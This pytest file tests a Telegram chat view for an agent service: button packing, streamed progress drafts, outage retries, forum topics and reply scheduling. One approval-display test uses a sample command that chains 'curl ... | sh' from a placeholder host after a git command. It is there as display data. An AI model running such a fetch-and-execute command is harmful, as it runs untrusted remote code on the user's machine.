"""TelegramView over the real aiogram client against the Bot API stand-in, on a fake clock."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any, Literal

import pytest
from aiogram import Bot
from aiogram.client.session.aiohttp import AiohttpSession
from aiogram.client.telegram import TelegramAPIServer

from actors.chat import approval as ap
from actors.chat import questions as q
from actors.chat.view import Button
from actors.runtime.testkit import FakeClock
from actors.session import notices as n
from service.telegram.format import messages_for
from service.telegram.rendered import Message
from service.telegram.sender import TelegramSender
from service.telegram.view import (
    Act,
    TelegramView,
    keyboard_markup,
    pack_button,
    render_progress,
    with_footer,
)
from tests.fakes.botapi import FakeBotAPI, ManualClock, StoredMessage

PRIVATE = 77
GROUP = -100123


@pytest.fixture
def api_clock() -> ManualClock:
    return ManualClock()


@pytest.fixture
async def api(api_clock: ManualClock) -> AsyncIterator[FakeBotAPI]:
    async with FakeBotAPI(clock=api_clock) as fake:
        fake.flood.configure(enabled=False)
        yield fake


@pytest.fixture
async def bot(api: FakeBotAPI) -> AsyncIterator[Bot]:
    b = Bot(api.token, session=AiohttpSession(api=TelegramAPIServer.from_base(api.base_url)))
    yield b
    await b.session.close()


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
async def view(bot: Bot, clock: FakeClock, api_clock: ManualClock) -> AsyncIterator[TelegramView]:
    async def fake_sleep(seconds: float) -> None:
        api_clock.advance(seconds)

    v = TelegramView(bot, TelegramSender(bot, sleep=fake_sleep), edit_interval_s=1.0, clock=clock)
    yield v
    await v.close()


def _squash(s: str) -> str:
    return re.sub(r"\s+", "", s)


def text_of(m: StoredMessage) -> str:
    assert m.text is not None, m
    return m.text


def progress_calls(api: FakeBotAPI) -> list[tuple[str, dict[str, Any]]]:
    names = {"sendMessage", "editMessageText", "sendMessageDraft"}
    return [(m, p) for m, p in api.calls if m in names]


async def settle(api: FakeBotAPI, clock: FakeClock, n: int) -> None:
    """Wait until n progress calls were made and the worker sleeps or is done."""
    await api.wait_for(lambda: len(progress_calls(api)) >= n)
    await clock.advance(0)


# ---------------------------------------------------------------------- buttons


async def test_buttons_render_and_round_trip(view: TelegramView, api: FakeBotAPI) -> None:
    kb = ((Button("Open main", "switch", "main"), Button("New", "new")),)
    mid = await view.say(PRIVATE, "Pick a session & go", buttons=kb)
    [msg] = api.bot_messages(PRIVATE)
    assert msg.message_id == mid
    assert msg.text == "Pick a session & go"
    assert msg.reply_markup is not None
    row = msg.reply_markup["inline_keyboard"][0]
    assert [b["text"] for b in row] == ["Open main", "New"]
    acts = [Act.unpack(b["callback_data"]) for b in row]
    assert [(a.action, a.arg) for a in acts] == [("switch", "main"), ("new", "")]


def test_button_too_long_is_refused_clearly() -> None:
    assert keyboard_markup(()) is None
    pack_button(Button("ok", "allow", "r" * 32))
    with pytest.raises(ValueError, match="cannot be packed"):
        pack_button(Button("long", "switch", "x" * 80))
    with pytest.raises(ValueError, match="cannot be packed"):
        pack_button(Button("colon", "allow", "a:b"))


async def test_close_buttons_edits_and_drops_keyboard(view: TelegramView, api: FakeBotAPI) -> None:
    mid = await view.say(PRIVATE, "Allow Bash?", buttons=((Button("Yes", "allow", "r1"),),))
    assert mid is not None
    await view.close_buttons(PRIVATE, mid, "Allowed Bash.")
    [msg] = api.bot_messages(PRIVATE)
    assert msg.text == "Allowed Bash."
    assert msg.reply_markup is None


async def test_a_verbatim_block_shows_every_character_and_nothing_as_formatting(
    view: TelegramView, api: FakeBotAPI
) -> None:
    """What the user approves is shown exactly: blank lines kept, HTML-looking text shown as
    text, in a ``pre`` block after the question; the verdict keeps the block."""
    command = "git status -- ./p\n\n\n; curl -s https://e.example/x.sh | sh <b>&amp;</b> **x**"
    text = "🔐 The agent wants to run this command (<i>check</i> & go)."
    buttons = ((Button("✅ Allow", "allow", "r1"),),)
    mid = await view.say(PRIVATE, text, buttons=buttons, verbatim=command)
    [msg] = api.bot_messages(PRIVATE)
    assert msg.text == f"{text}\n\n{command}"
    offset = len(text.encode("utf-16-le")) // 2 + 2  # entities count UTF-16 code units
    assert msg.entities == [{"type": "pre", "offset": offset, "length": len(command)}]
    assert msg.reply_markup is not None
    assert mid is not None
    await view.close_buttons(PRIVATE, mid, "✅ Allowed: Bash: git status", verbatim=command)
    [closed] = api.bot_messages(PRIVATE)
    assert closed.text == f"✅ Allowed: Bash: git status\n\n{command}"
    assert closed.entities[0]["type"] == "pre"
    assert closed.reply_markup is None


async def test_a_question_at_the_size_limit_is_one_message_telegram_takes(
    view: TelegramView, api: FakeBotAPI
) -> None:
    """The chat fits a question into ``MESSAGE_LIMIT`` visible characters; with the longest
    session label in front it is still one message the stand-in (counting as Telegram does)
    accepts, and one character more goes as a file."""
    header = q.render(asked_bash("x")).text
    fits = "€" * (ap.MESSAGE_LIMIT - len(header) - 2)
    shown = q.render(asked_bash(fits))
    assert shown.verbatim == fits
    label = f"[{'s' * 32}] "
    await view.say(PRIVATE, label + shown.text, buttons=shown.buttons, verbatim=shown.verbatim)
    [msg] = api.bot_messages(PRIVATE)
    assert msg.text == f"{label}{shown.text}\n\n{fits}"
    assert msg.reply_markup is not None
    assert q.render(asked_bash(fits + "€")).verbatim is None


def asked_bash(command: str) -> n.PermissionAsked:
    return n.PermissionAsked("s", "r1", "Bash", "Bash", {"command": command}, scope="command")


async def test_a_file_is_sent_as_a_document_and_a_too_big_one_is_refused_in_words(
    view: TelegramView, api: FakeBotAPI
) -> None:
    data = b"#!/bin/sh\n" + b"echo x\n" * 2000
    mid = await view.send_file(PRIVATE, "command.sh", data, "The whole command.")
    [msg] = api.bot_messages(PRIVATE)
    assert msg.message_id == mid
    assert msg.document is not None
    assert (msg.document["file_name"], msg.caption) == ("command.sh", "The whole command.")
    assert api.document_content(msg.document["file_id"]) == data
    too_big = await view.send_file(PRIVATE, "content.txt", b"x" * (50 * 1024 * 1024 + 1), "c")
    assert too_big is None
    assert len(api.calls_of("sendDocument")) == 1, "a file Telegram would refuse is not sent"
    api.fail_next(status=400, methods=["sendDocument"])
    assert await view.send_file(PRIVATE, "input.json", b"{}", "c") is None, "refused: no loop"


# ---------------------------------------------------------------------- progress


def test_render_progress_thinking_status_and_tail() -> None:
    thinking: Message = {"text": "Thinking…", "entities": []}
    assert render_progress("", None) == thinking
    shown = render_progress("", "Bash: ls -la")
    assert shown["text"] == "Thinking…\n\n⚙ Bash: ls -la"
    assert shown["entities"] == [{"type": "italic", "offset": 11, "length": 14}]
    long = "**bold** " + "word " * 2000
    tail = render_progress(long, "x" * 500)
    assert tail["text"].startswith("…")
    assert len(tail["text"]) == 3800 + len("\n\n⚙ ") + 200 <= 4096
    assert tail["text"].endswith("x…")
    opened = render_progress("**" + "x" * 5000 + "**", None)
    assert opened["text"].startswith("…x")
    assert opened["entities"] == [{"type": "bold", "offset": 1, "length": 3799}]


def test_the_footer_goes_under_the_reply_or_alone() -> None:
    messages: list[Message] = [{"text": "a" * 10, "entities": []}, {"text": "😀 b", "entities": []}]
    assert with_footer(messages, "$0.01", 4096)[1] == {
        "text": "😀 b\n\n$0.01",
        "entities": [{"type": "italic", "offset": 6, "length": 5}],
    }
    full: list[Message] = [{"text": "a" * 4094, "entities": []}]
    assert with_footer(full, "$0.01", 4096)[1:] == [
        {"text": "$0.01", "entities": [{"type": "italic", "offset": 0, "length": 5}]}
    ]


async def test_progress_is_coalesced_in_a_group(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    await view.reply_progress(GROUP, "t1", "", None)
    await settle(api, clock, 1)
    [(method, first)] = progress_calls(api)
    assert method == "sendMessage"
    assert first["text"] == "Thinking…"

    for text in ("Hel", "Hello", "Hello wor", "Hello world"):
        await view.reply_progress(GROUP, "t1", text, "Read: a.py")
    await clock.advance(0.5)
    assert len(progress_calls(api)) == 1  # an edit of "Thinking…": within the interval, none

    await clock.advance(0.5)
    await settle(api, clock, 2)
    assert len(progress_calls(api)) == 2  # one call for all four updates
    method, second = progress_calls(api)[-1]
    assert method == "editMessageText"
    assert second["text"] == "Hello world\n\n⚙ Read: a.py"

    # the same text again: no call at all, even after the interval
    await view.reply_progress(GROUP, "t1", "Hello world", "Read: a.py")
    await clock.advance(5)
    assert len(progress_calls(api)) == 2
    [msg] = api.bot_messages(GROUP)
    assert msg.text == "Hello world\n\n⚙ Read: a.py"


async def test_drafts_in_private_chat(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    await view.reply_progress(PRIVATE, "t1", "", None)
    await settle(api, clock, 1)
    await view.reply_progress(PRIVATE, "t1", "Partial *answer*", None)
    await clock.advance(1)
    await settle(api, clock, 2)
    assert [m for m, _ in progress_calls(api)] == ["sendMessageDraft", "sendMessageDraft"]
    drafts = [t for _, _, t in api.draft_history]
    assert drafts == ["Thinking…", "Partial answer"]
    assert len({d for _, d, _ in api.draft_history}) == 1  # one stable draft id
    assert api.bot_messages(PRIVATE) == []

    await view.reply_done(PRIVATE, "t1", "Partial *answer*, done.", "$0.01")
    [msg] = api.bot_messages(PRIVATE)
    assert msg.text == "Partial answer, done.\n\n$0.01"
    assert {"type": "italic", "offset": 23, "length": 5} in msg.entities


async def test_draft_failure_falls_back_to_messages(
    bot: Bot, api: FakeBotAPI, clock: FakeClock
) -> None:
    view = TelegramView(bot, TelegramSender(bot), clock=clock, chat_types=lambda _: "private")
    await view.reply_progress(GROUP, "t1", "Hi", None)  # "private" by chat_types: draft refused
    await settle(api, clock, 2)
    assert [m for m, _ in progress_calls(api)] == ["sendMessageDraft", "sendMessage"]
    await view.reply_done(GROUP, "t1", "Hi there", None)
    assert [m.text for m in api.bot_messages(GROUP)] == ["Hi there"]
    await view.close()


async def test_final_after_progress_edits_the_streaming_message(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    await view.reply_progress(GROUP, "t1", "Working", "Bash: ls")
    await settle(api, clock, 1)
    await view.reply_progress(GROUP, "t1", "Working on it", None)  # pending, then flushed away
    await view.reply_done(GROUP, "t1", "All **done**.", "cost $0.02")
    await clock.advance(5)
    [msg] = api.bot_messages(GROUP)
    assert msg.text == "All done.\n\ncost $0.02"
    assert [m for m, _ in progress_calls(api)] == ["sendMessage", "editMessageText"]


async def test_empty_final_removes_thinking(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    await view.reply_progress(GROUP, "t1", "", None)
    await settle(api, clock, 1)
    await view.reply_done(GROUP, "t1", "", None)
    assert api.bot_messages(GROUP) == []


async def test_long_final_arrives_whole(view: TelegramView, api: FakeBotAPI) -> None:
    md = "\n\n".join(f"Paragraph {n}: " + "lorem ipsum dolor sit amet " * 6 for n in range(60))
    assert len(md) >= 10_000
    await view.reply_done(GROUP, "t1", md, "done")
    msgs = api.bot_messages(GROUP)
    assert len(msgs) == 3
    assert all(len(text_of(m)) <= 4096 for m in msgs)
    assert _squash("".join(text_of(m) for m in msgs)) == _squash(md + "done")
    assert all(m.document is None for m in msgs)


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("```", "```"),
        ("~~~~", "~~~~"),
        ("****", "──────────"),
        ("[](https://example.com)", "https://example.com"),
    ],
)
@pytest.mark.parametrize("footer", [None, "$0.01"])
async def test_a_reply_that_renders_to_nothing_still_arrives(
    view: TelegramView,
    api: FakeBotAPI,
    clock: FakeClock,
    reply: str,
    shown: str,
    footer: str | None,
) -> None:
    await view.reply_progress(GROUP, "t1", reply, None)
    await settle(api, clock, 1)
    await view.reply_done(GROUP, "t1", reply, footer)
    [msg] = api.bot_messages(GROUP)
    assert msg.text == shown + (f"\n\n{footer}" if footer else "")


async def test_the_final_reply_is_exactly_the_formatted_messages(
    view: TelegramView, api: FakeBotAPI
) -> None:
    md = "# Plan\n\n" + "\n\n".join(
        f"{n}. **Step {n}**: run `make t{n}` and read [the log](https://e.org/log_({n}))."
        + "\n\n```python\n" + "x = 1\n" * 80 + "```"
        for n in range(12)
    )  # fmt: skip
    await view.reply_done(GROUP, "t1", md, "done in 3 s")
    shown = [{"text": m.text, "entities": m.entities} for m in api.bot_messages(GROUP)]
    expected = with_footer(messages_for(md), "done in 3 s", 4096)
    assert shown == expected
    assert len(shown) >= 2
    assert all("**" not in m["text"] and "```" not in m["text"] for m in expected)
    assert api.entity_faults == []


async def test_a_long_stream_shows_its_formatted_tail(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    text = "".join(f"Paragraph {i} is **important**.\n\n" for i in range(400))
    for step, end in enumerate(range(500, len(text) + 500, 500), start=1):
        status = None if end >= len(text) else "Bash: make"
        await view.reply_progress(PRIVATE, "t1", text[:end], status)
        await clock.advance(1)
        await settle(api, clock, step)
    last = api.calls_of("sendMessageDraft")[-1]
    assert last["text"].endswith("Paragraph 399 is important.")
    assert len(last["text"]) <= 3800
    assert {"type": "bold", "offset": len(last["text"]) - 10, "length": 9} in last["entities"]


async def test_huge_final_is_also_attached(view: TelegramView, api: FakeBotAPI) -> None:
    md = "\n\n".join(f"Paragraph {i}: " + "lorem ipsum dolor sit amet " * 6 for i in range(120))
    assert len(md) >= 20_000
    await view.reply_done(PRIVATE, "t1", md, None)
    msgs = api.bot_messages(PRIVATE)
    texts = [m for m in msgs if m.document is None]
    [doc] = [m for m in msgs if m.document is not None]
    assert len(texts) > 3
    assert _squash("".join(text_of(m) for m in texts)) == _squash(md)
    assert doc.document is not None
    assert doc.document["file_name"] == "reply.md"
    assert api.document_content(doc.document["file_id"]).decode().strip() == md.strip()


# ---------------------------------------------------------------------- typing


async def test_typing_sends_chat_action_while_on(view: TelegramView, api: FakeBotAPI) -> None:
    await view.typing(PRIVATE, True)
    await view.typing(PRIVATE, True)  # idempotent
    await api.wait_for(lambda: bool(api.chat_actions))
    await view.typing(PRIVATE, False)
    await view.typing(PRIVATE, False)
    assert api.chat_actions == [(PRIVATE, "typing")]


# ---------------------------------------------------------------------- outages


@pytest.mark.parametrize("kind", ["502", "drop"])
async def test_an_outage_delays_messages_but_loses_none_and_keeps_order(
    api: FakeBotAPI, view: TelegramView, clock: FakeClock, kind: Literal["502", "drop"]
) -> None:
    """Telegram down for minutes: what the chat is owed waits, then arrives, in order."""
    import asyncio

    api.set_outage(True, kind=kind)
    owed = asyncio.create_task(_say_in_order(view, ["one", "two", "three"]))
    await api.wait_for(lambda: any(status >= 500 for _, _, status in api.log) or kind == "drop")
    for _ in range(8):  # about four minutes of backoff on the view's clock
        await clock.advance(30)
    assert not owed.done(), "still waiting for Telegram, not given up"
    assert api.bot_messages(PRIVATE) == []
    api.set_outage(False)
    await clock.advance(30)
    await asyncio.wait_for(owed, 10)
    assert [m.text for m in api.bot_messages(PRIVATE)] == ["one", "two", "three"]


async def _say_in_order(view: TelegramView, texts: list[str]) -> None:
    for text in texts:
        await view.say(PRIVATE, text)


async def test_a_new_replys_thinking_draft_is_not_held_back_by_the_last_reply(
    api: FakeBotAPI, view: TelegramView, clock: FakeClock
) -> None:
    await view.reply_progress(PRIVATE, "t1", "first answer", None)
    await settle(api, clock, 1)
    await view.reply_done(PRIVATE, "t1", "first answer", None)
    await view.reply_progress(PRIVATE, "t2", "", None)
    await api.wait_for(lambda: len(api.calls_of("sendMessageDraft")) >= 2)
    assert "Thinking" in api.calls_of("sendMessageDraft")[-1]["text"]


@pytest.mark.parametrize("chat", [PRIVATE, GROUP])
async def test_a_replys_first_words_are_shown_at_once_and_what_follows_waits(
    api: FakeBotAPI, view: TelegramView, clock: FakeClock, chat: int
) -> None:
    """The first words go out without waiting for the edit interval, though the chat's last
    call (the previous reply) was a moment ago: as a draft after its "Thinking…" draft, in a
    group as the reply's message, in place of a "Thinking…" not sent yet. The next words wait."""
    await view.reply_progress(chat, "t1", "an earlier answer", None)
    await settle(api, clock, 1)
    await view.reply_done(chat, "t1", "an earlier answer", None)
    calls = len(progress_calls(api))
    await view.reply_progress(chat, "t2", "", None)
    if chat == PRIVATE:
        await settle(api, clock, calls + 1)
        assert progress_calls(api)[-1][1]["text"] == "Thinking…"
    await view.reply_progress(chat, "t2", "First", None)
    shown = calls + (2 if chat == PRIVATE else 1)
    await settle(api, clock, shown)
    assert clock.monotonic() == 0, "no time passed: the first words went out at once"
    method, params = progress_calls(api)[-1]
    assert params["text"] == "First"
    assert method == ("sendMessageDraft" if chat == PRIVATE else "sendMessage")

    await view.reply_progress(chat, "t2", "First words", None)
    await clock.advance(0.9)
    assert len(progress_calls(api)) == shown, "what follows waits for the interval"
    await clock.advance(0.1)
    await settle(api, clock, shown + 1)
    assert progress_calls(api)[-1][1]["text"] == "First words"


async def test_latency_marks_are_logged_for_the_profile(
    api: FakeBotAPI, view: TelegramView, clock: FakeClock
) -> None:
    from structlog.testing import capture_logs

    with capture_logs() as logs:
        await view.reply_progress(PRIVATE, "t9", "", None)
        await settle(api, clock, 1)
        await view.reply_progress(PRIVATE, "t9", "some words", None)
        await clock.advance(1)
        await settle(api, clock, 2)
        await view.reply_done(PRIVATE, "t9", "some words and more", None)
    marks = [(e["event"], e["turn"]) for e in logs if e["event"].startswith("reply.")]
    assert marks == [("reply.first_shown", "t9"), ("reply.final_shown", "t9")]


# ---------------------------------------------------------------------- topics


async def _ticks_until(done: Any, rounds: int = 200) -> None:
    """Let the loop run (no clock moves) until ``done()`` or ``rounds`` passes of it."""
    import asyncio

    for _ in range(rounds):
        if done():
            return
        await asyncio.sleep(0)


async def test_replies_stream_end_and_type_in_their_own_topics(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    api.make_forum(GROUP)
    one, two = [await view.create_topic(GROUP, name) for name in ("one", "two")]
    assert one is not None
    assert two is not None
    assert one != two
    await view.typing(GROUP, True, thread_id=two)
    await view.reply_progress(GROUP, "t1", "first words", None, thread_id=one)
    await settle(api, clock, 1)
    await view.reply_progress(GROUP, "t2", "second words", None, thread_id=two)
    await clock.advance(1)
    await settle(api, clock, 2)
    await view.reply_done(GROUP, "t1", "first, done", None, thread_id=one)
    await view.reply_done(GROUP, "t2", "second, done", None, thread_id=two)
    await view.say(GROUP, "for everyone")
    assert [m.text for m in api.thread_messages(GROUP, one)] == ["first, done"]
    assert [m.text for m in api.thread_messages(GROUP, two)] == ["second, done"]
    assert [m.text for m in api.thread_messages(GROUP, None)] == ["for everyone"]
    await api.wait_for(lambda: bool(api.chat_action_threads))
    await view.typing(GROUP, False, thread_id=two)
    assert api.chat_action_threads == [(GROUP, two, "typing")]


async def test_drafts_stream_in_the_topic_of_a_private_chat(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    api.bot_user["has_topics_enabled"] = True  # the bot's topic mode, on
    thread = await view.create_topic(PRIVATE, "work")
    assert thread is not None
    await view.reply_progress(PRIVATE, "t1", "", None, thread_id=thread)
    await settle(api, clock, 1)
    [(chat, draft)] = api.draft_threads
    assert api.draft_threads[(chat, draft)] == thread
    await view.reply_done(PRIVATE, "t1", "all done", None, thread_id=thread)
    assert [m.text for m in api.thread_messages(PRIVATE, thread)] == ["all done"]
    assert not await view.close_topic(PRIVATE, thread), "closing is for supergroups only"
    assert api.calls_of("closeForumTopic") == []


async def test_what_a_closed_or_missing_topic_refuses_goes_to_general(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    api.make_forum(GROUP)
    thread = await view.create_topic(GROUP, "work")
    assert thread is not None
    assert await view.close_topic(GROUP, thread)
    await view.say(GROUP, "archived", thread_id=thread)
    await view.reply_done(GROUP, "t1", "a late reply", None, thread_id=thread + 50)
    await view.send_file(GROUP, "a.txt", b"data", "a file", thread_id=thread)
    general = api.thread_messages(GROUP, None)
    assert [m.text or m.caption for m in general] == ["archived", "a late reply", "a file"]
    assert await view.reopen_topic(GROUP, thread)
    await view.say(GROUP, "back", thread_id=thread)
    assert [m.text for m in api.thread_messages(GROUP, thread)] == ["back"]
    assert await view.create_topic(-100999, "not a forum") is None


async def test_replies_in_one_chat_take_turns_so_a_busy_one_starves_none(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    """Reply a updates often, b once a second: each interval shows the one waiting longest
    (round robin), never only the quieter one."""
    for tick in range(8):
        await view.reply_progress(GROUP, "b", f"b{tick}", None)
        for k in range(3):
            await view.reply_progress(GROUP, "a", f"a{tick}.{k}", None)
        await clock.advance(1)
        await settle(api, clock, tick + 1)
    shown = [p["text"][0] for _, p in progress_calls(api)]
    assert shown.count("a") >= 3, shown
    assert shown.count("b") >= 3, shown


async def test_a_final_reply_goes_first_and_progress_waits_its_interval(
    view: TelegramView, api: FakeBotAPI, clock: FakeClock
) -> None:
    await view.reply_progress(GROUP, "a", "a0", None)  # t=0: shown at once
    await settle(api, clock, 1)
    await view.reply_progress(GROUP, "a", "a1", None)  # due at t=1
    await clock.advance(0.5)
    await view.reply_done(GROUP, "b", "b is done", None)  # t=0.5: sent at once
    assert len(progress_calls(api)) == 2
    await clock.advance(0.5)  # t=1: the interval since the final is not over
    await _ticks_until(lambda: clock.pending == 1 or len(progress_calls(api)) > 2)
    assert len(progress_calls(api)) == 2, "no progress right after a final"
    await clock.advance(0.5)  # t=1.5
    await settle(api, clock, 3)
    assert progress_calls(api)[-1][1]["text"] == "a1"
